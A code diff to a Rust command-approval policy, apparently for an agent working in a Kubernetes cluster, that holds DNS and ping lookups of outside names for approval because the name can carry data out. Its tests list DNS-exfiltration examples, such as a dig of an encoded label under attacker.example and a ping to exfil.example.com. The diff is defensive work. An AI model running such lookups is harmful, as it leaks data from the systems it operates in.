@@ -458,6 +458,14 @@ fn risky_option(name: &str, args: &[&str]) -> Option<&'static str> {
         "file" if short_flag(args, "C", "eFfmP") || long_opt(args, "--compile") => {
             Some("`file -C` writes a file")
         }
+        "dig" | "host" | "nslookup" | "ping" if args.iter().any(|a| a.starts_with("-f")) => {
+            Some("`-f` reads the names to look up from a file (or floods, for ping)")
+        }
+        "dig" | "host" | "nslookup" | "ping" if args.iter().any(|a| leaves_the_cluster(a)) => Some(
+            "a name outside the cluster is looked up by servers outside it, and the name \
+                 itself can carry data out; cluster names (single labels, *.svc, \
+                 *.cluster.local, *.local, *.internal) and IP addresses need no approval",
+        ),
         "grep" | "egrep" | "fgrep" if grep_recursive(args) => {
             Some("recursive grep can read files nobody reviewed")
         }
@@ -568,6 +576,23 @@ fn hostname_sets(args: &[&str]) -> bool {
             true
         }
     })
+}
+
+/// Suffixes of names that resolve inside the cluster or the local network.
+const CLUSTER_SUFFIXES: &[&str] = &[".svc", ".cluster.local", ".local", ".internal"];
+
+/// Whether a DNS/ping argument names a host outside the cluster: a dotted name (or a
+/// `@server`) that is neither an IP address nor under a cluster suffix. Options, record
+/// types and single labels stay inside.
+fn leaves_the_cluster(arg: &str) -> bool {
+    if arg.starts_with('-') || arg.starts_with('+') {
+        return false;
+    }
+    let name = arg.strip_prefix('@').unwrap_or(arg).trim_end_matches('.');
+    let name = name.to_ascii_lowercase();
+    name.contains('.')
+        && name.parse::<std::net::IpAddr>().is_err()
+        && !CLUSTER_SUFFIXES.iter().any(|s| name.ends_with(s))
 }
 
 fn grep_recursive(args: &[&str]) -> bool {
@@ -823,6 +848,15 @@ mod tests {
         ("kubectl config view", Allowed),
         ("kubectl config view --minify", Allowed),
         ("ping -c 3 10.0.0.1", Allowed),
+        ("nslookup checkout.shop.svc.cluster.local", Allowed),
+        ("dig +short -t A web.prod.svc @10.96.0.10", Allowed),
+        ("host checkout", Allowed),
+        ("dig AAAA db.internal", Allowed),
+        ("nslookup api.github.com", Approval),
+        ("dig QUtJQTEyMzQ1Njc4OTA.attacker.example", Approval),
+        ("dig @203.0.113.9.nip.io x.svc", Approval),
+        ("dig -f /var/log/app.log", Approval),
+        ("ping -c 1 exfil.example.com", Approval),
         ("ip addr show", Allowed),
         ("helm list -A", Allowed),
         ("mytool /opt/data/config.yaml", Allowed),
